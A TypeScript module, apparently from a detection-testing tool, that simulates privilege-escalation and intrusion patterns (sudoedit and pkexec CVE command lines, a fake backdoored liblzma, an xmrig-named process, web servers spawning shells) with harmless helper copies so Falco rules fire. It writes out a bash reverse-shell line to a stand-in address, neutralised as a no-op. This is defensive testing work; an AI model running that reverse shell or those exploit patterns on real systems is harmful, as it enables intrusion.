/**
 * Privilege escalation and its building blocks on the host: setuid attempts and userfaultfd by
 * an unprivileged user, exploit command lines of sudo and pkexec, suspicious environments,
 * BPF program loads, a backdoored library in sshd, interactive reconnaissance, known miners,
 * web servers starting shells and tools. Programs rules know by name are copies of the
 * helper that only run its harmless modes; nothing is exploited.
 *
 * @example
 * ```ts
 * const report = await runAction(PRIVILEGE_ACTIONS[0]); // through runner.ts, as saker simulate runs it
 * report.status; // "ok", "skipped" (a need missing here) or "failed"
 * ```
 * @module
 */

import type { Action } from "../action.ts";
import { incubating, sandbox } from "../action.ts";
import { requireCall, runCommand, which } from "../command.ts";
import {
  asDaemon,
  createFile,
  evidenceOf,
  expectExit,
  helperAs,
  helperForAnyone,
  runHelper,
  withLoginUid,
} from "./util.ts";

/** The audit login uid of a logged-in (non-root) user, which some CVE rules require. */
const LOGIN_UID = 1000;

/** Privilege actions. */
export const PRIVILEGE_ACTIONS: Action[] = [
  {
    name: "non-sudo-setuid",
    technique: "T1548.001",
    summary: "the service account daemon asks to become root with setuid(0) (refused)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: [],
    falcoTargets: [incubating("Non sudo setuid", "user.name", "proc.name", "evt.type")],
    async run(ctx) {
      const prog = await helperForAnyone(ctx, "saker-sim");
      const argv = asDaemon([prog, "setuid", "0"]);
      const r = await runCommand(argv[0], argv.slice(1));
      const call = requireCall(r, "setuid");
      if (call.result === 0) throw new Error("daemon became root");
      return {
        facts: { "user.name": "daemon", "proc.name": "saker-sim", "evt.type": "setuid" },
        evidence: evidenceOf(r, "setpriv daemon saker-sim setuid 0"),
      };
    },
  },
  {
    name: "userfaultfd-unprivileged",
    technique: "TA0005",
    summary: "the service account daemon creates a userfaultfd (user-mode faults only), closes it",
    kind: "host",
    needs: ["root", "gcc"],
    expect: [],
    falcoTargets: [
      sandbox(
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        "user.name",
        "proc.name",
      ),
    ],
    async run(ctx) {
      const prog = await helperForAnyone(ctx, "saker-sim");
      const argv = asDaemon([prog, "userfaultfd"]);
      const r = await runCommand(argv[0], argv.slice(1));
      requireCall(r, "userfaultfd", true);
      return {
        facts: { "user.name": "daemon", "proc.name": "saker-sim" },
        evidence: evidenceOf(r, "setpriv daemon saker-sim userfaultfd"),
      };
    },
  },
  {
    name: "sudoedit-exploit-args",
    technique: "T1548.003",
    summary: "a logged-in user's `sudoedit -s \\` (the CVE-2021-3156 command line; a copy of " +
      "the helper named sudoedit, nothing is exploited)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: [],
    falcoTargets: [
      sandbox("Sudo Potential Privilege Escalation", "proc.name", "proc.cmdline", "user.loginuid"),
    ],
    async run(ctx) {
      const prog = await helperAs(ctx, "sudoedit");
      const argv = withLoginUid(LOGIN_UID, [prog, "-s", "\\"]);
      const r = await runCommand(argv[0], argv.slice(1));
      // The helper rejects the mode "-s" (usage, exit 2): it ran with that command line.
      expectExit(r, "sudoedit", [2]);
      return {
        facts: {
          "proc.name": "sudoedit",
          "proc.cmdline": "sudoedit -s \\",
          "user.loginuid": LOGIN_UID,
        },
        evidence: evidenceOf(r, "sudoedit -s \\"),
      };
    },
  },
  {
    name: "pkexec-no-args",
    technique: "TA0004",
    summary: "a logged-in user runs pkexec without arguments (the CVE-2021-4034 pattern; a copy " +
      "of the helper named pkexec)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: [],
    falcoTargets: [
      sandbox(
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "proc.name",
        "proc.args",
        "user.loginuid",
      ),
    ],
    async run(ctx) {
      const prog = await helperAs(ctx, "pkexec");
      const argv = withLoginUid(LOGIN_UID, [prog]);
      const r = await runCommand(argv[0], argv.slice(1));
      expectExit(r, "pkexec", [2]); // the helper's usage message
      return {
        facts: { "proc.name": "pkexec", "proc.args": "", "user.loginuid": LOGIN_UID },
        evidence: evidenceOf(r, "pkexec"),
      };
    },
  },
  {
    name: "glibc-tunables-env",
    technique: "TA0004",
    summary: "runs /bin/true with GLIBC_TUNABLES in its environment (a harmless tunable)",
    kind: "host",
    needs: [],
    expect: [],
    falcoTargets: [
      incubating(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "proc.name",
        "proc.env",
      ),
    ],
    async run() {
      const env = { GLIBC_TUNABLES: "glibc.malloc.check=0", PATH: "/usr/bin:/bin" };
      const r = await runCommand("/bin/true", [], { env, clearEnv: true });
      expectExit(r, "true");
      return {
        facts: {
          "proc.name": "true",
          "proc.env": "GLIBC_TUNABLES=glibc.malloc.check=0 PATH=/usr/bin:/bin",
        },
        evidence: evidenceOf(r, "GLIBC_TUNABLES=... true"),
      };
    },
  },
  {
    name: "http-proxy-env",
    technique: "T1204",
    summary: "runs a program named curl with HTTP_PROXY set (a copy of the helper; no request)",
    kind: "host",
    needs: ["gcc"],
    expect: [],
    falcoTargets: [
      incubating("Program run with disallowed http proxy env", "proc.name", "proc.env"),
    ],
    async run(ctx) {
      const env = { HTTP_PROXY: "http://203.0.113.10:3128", PATH: "/usr/bin:/bin" };
      const r = await runCommand(await helperAs(ctx, "curl"), ["noop"], { env, clearEnv: true });
      expectExit(r, "curl");
      return {
        facts: {
          "proc.name": "curl",
          "proc.env": "HTTP_PROXY=http://203.0.113.10:3128 PATH=/usr/bin:/bin",
        },
        evidence: evidenceOf(r, "HTTP_PROXY=... curl"),
      };
    },
  },
  {
    name: "bpf-program-load",
    technique: "TA0003",
    summary: "asks the kernel to load a BPF program with no instructions (refused)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: [],
    falcoTargets: [incubating("BPF Program Not Profiled", "proc.name", "evt.type")],
    async run(ctx) {
      const r = await runHelper(ctx, ["bpf-prog-load"]);
      const call = requireCall(r, "bpf");
      if (call.result === 0) throw new Error("the kernel loaded an empty BPF program");
      return {
        facts: { "proc.name": "saker-sim", "evt.type": "bpf" },
        evidence: evidenceOf(r, "saker-sim bpf-prog-load"),
      };
    },
  },
  {
    name: "sshd-loads-backdoored-liblzma",
    technique: "T1556",
    summary: "a process named sshd opens a file named liblzma.so.5.6.1 (an empty file in the " +
      "workspace)",
    kind: "host",
    needs: ["gcc"],
    expect: [],
    falcoTargets: [
      incubating("Backdoored library loaded into SSHD (CVE-2024-3094)", "fd.name", "proc.name"),
    ],
    async run(ctx) {
      const lib = ctx.ws.path("liblzma.so.5.6.1");
      await createFile(lib, "");
      const r = await runCommand(await helperAs(ctx, "sshd"), ["open", lib, "r"]);
      requireCall(r, "openat", true);
      return {
        facts: { "fd.name": lib, "proc.name": "sshd" },
        evidence: evidenceOf(r, "sshd open liblzma"),
      };
    },
  },
  {
    name: "interactive-recon",
    technique: "TA0043",
    summary: "whoami run at a terminal, leading its process group (script gives it both)",
    kind: "host",
    needs: [],
    expect: [],
    falcoTargets: [
      sandbox("Basic Interactive Reconnaissance", "proc.name", "proc.ppid", "evt.type"),
    ],
    async run() {
      if (!(await which("script"))) throw new Error("script (util-linux) is not installed");
      // script runs the command through a shell in a new session on a new terminal; the shell
      // becomes whoami, which so leads its process group with the terminal as its own.
      const r = await runCommand("script", ["-qec", "exec whoami", "/dev/null"]);
      expectExit(r, "script whoami");
      return {
        // whoami has a session and process group of its own: its parent (script) names it.
        facts: { "proc.name": "whoami", "proc.ppid": r.pid, "evt.type": "execve" },
        evidence: evidenceOf(r, "script -qec whoami"),
      };
    },
  },
  {
    name: "known-miner-process",
    technique: "T1496",
    summary: "runs a program named xmrig (a copy of the helper that does nothing)",
    kind: "host",
    needs: ["gcc"],
    expect: [],
    falcoTargets: [sandbox("Known Cryptominer Process Executed", "proc.name", "evt.type")],
    async run(ctx) {
      const r = await runCommand(await helperAs(ctx, "xmrig"), ["noop"]);
      expectExit(r, "xmrig");
      return {
        facts: { "proc.name": "xmrig", "evt.type": "execve" },
        evidence: evidenceOf(r, "xmrig"),
      };
    },
  },
  {
    name: "web-server-spawns-tool",
    technique: "T1059",
    summary: "a process named nginx starts id, as a web shell's first command",
    kind: "host",
    needs: ["gcc"],
    expect: [],
    falcoTargets: [
      sandbox("Web Server Spawned Suspicious Child Process", "proc.name", "proc.pname"),
    ],
    async run(ctx) {
      const nginx = await helperAs(ctx, "nginx");
      const id = (await which("id")) ?? "/usr/bin/id";
      const r = await runCommand(nginx, ["spawn", id]);
      requireCall(r, "execve", true);
      return {
        facts: { "proc.name": "id", "proc.pname": "nginx" },
        evidence: evidenceOf(r, "nginx spawn id"),
      };
    },
  },
  {
    name: "web-server-reverse-shell",
    technique: "T1059",
    summary: "a process named nginx starts `sh -c 'bash -i ...'`, a reverse shell's command " +
      "line (the shell only runs true)",
    kind: "host",
    needs: ["gcc"],
    expect: [],
    falcoTargets: [
      sandbox("Reverse Shell from Web Server", "proc.name", "proc.pname", "proc.cmdline"),
      sandbox("Web Server Spawned Shell", "proc.name", "proc.pname"),
    ],
    async run(ctx) {
      const nginx = await helperAs(ctx, "nginx");
      const line = "true bash -i >& /dev/tcp/203.0.113.10/4444 0>&1";
      const r = await runCommand(nginx, ["spawn", "/bin/sh", "-c", `: '${line}'`]);
      requireCall(r, "execve", true);
      return {
        facts: { "proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": `sh -c : '${line}'` },
        evidence: evidenceOf(r, "nginx spawn sh -c"),
      };
    },
  },
];
